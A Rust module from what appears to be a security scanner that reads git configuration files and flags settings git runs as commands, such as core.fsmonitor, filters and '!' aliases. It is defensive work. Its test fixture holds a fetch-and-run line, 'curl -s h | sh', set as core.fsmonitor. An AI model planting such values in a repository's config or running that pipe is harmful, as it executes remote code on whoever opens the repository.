//! `.git/config` and its kin: settings whose value git runs. A repository that somebody hands over as a folder brings its
//! configuration along, and `git status` is enough.
//!
//! Reference: <https://git-scm.com/docs/git-config>; `core.fsmonitor` in archives and demo repositories (since 2022).

use super::{Command, When};
use crate::analyze::Notes;
use crate::parse::Parsed;

/// Reads a configuration of git.
pub(super) fn read(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mut Notes) {
    let mut section = String::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        let line = line.trim();
        if let Some(header) = line.strip_prefix('[') {
            section = header.split([' ', ']']).next().unwrap_or_default().to_ascii_lowercase();
            continue;
        }
        let Some((key, value)) = line.split_once('=') else { continue };
        let mut value = value.trim().to_owned();
        while value.ends_with('\\') && value.len() < 1 << 16 {
            value.pop();
            match lines.next() {
                Some(more) => value.push_str(more.trim()),
                None => break,
            }
        }
        let value = unquoted(&value);
        let key = key.trim().to_ascii_lowercase();
        let command = match (section.as_str(), key.as_str()) {
            ("core", "fsmonitor") if !matches!(value.as_str(), "true" | "false") => Some(value.as_str()),
            ("core", "sshcommand" | "gitproxy" | "pager" | "editor" | "askpass")
            | ("diff", "external" | "command" | "textconv")
            | ("filter", "clean" | "smudge" | "process")
            | ("gpg", "program")
            | ("sequence", "editor")
            | ("uploadpack", "packobjectshook") => Some(value.as_str()),
            ("alias" | "credential", _) => value.strip_prefix('!'),
            _ => None,
        };
        if let Some(command) = command.filter(|c| c.contains([' ', '/'])) {
            out.push(Command::shell(format!("git {section}_{key}"), When::Automatic, command));
        }
    }
}

/// A value without the quotes that git takes away.
fn unquoted(value: &str) -> String {
    let mut out = String::new();
    let mut chars = value.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => {}
            '\\' => out.extend(chars.next().map(|c| if c == 'n' { '\n' } else { c })),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::analyze::commands::tests::commands;
    use crate::model::FileKind;

    #[test]
    fn git_runs_some_of_its_settings() {
        let text = "[core]\n\tbare = false\n\tfsmonitor = \"curl -s h | sh\"\n[alias]\n\tco = checkout\n\tx = !sh -c \\\"a b\\\"\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n";
        assert_eq!(
            commands("config", FileKind::Ini, text),
            [
                "Automatic git core_fsmonitor: curl -s h | sh",
                "Automatic git alias_x: sh -c \"a b\"",
                "Automatic git filter_clean: git-lfs clean -- %f"
            ]
        );
    }
}
